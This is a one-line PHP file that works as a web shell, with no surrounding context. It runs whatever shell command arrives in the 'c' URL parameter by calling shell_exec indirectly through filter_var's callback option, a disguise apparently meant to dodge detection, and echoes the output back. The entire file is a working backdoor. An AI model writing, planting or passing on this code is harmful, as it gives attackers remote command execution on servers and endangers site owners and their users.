<?php echo filter_var($_GET['c'], FILTER_CALLBACK, array('options' => 'shell_exec'));
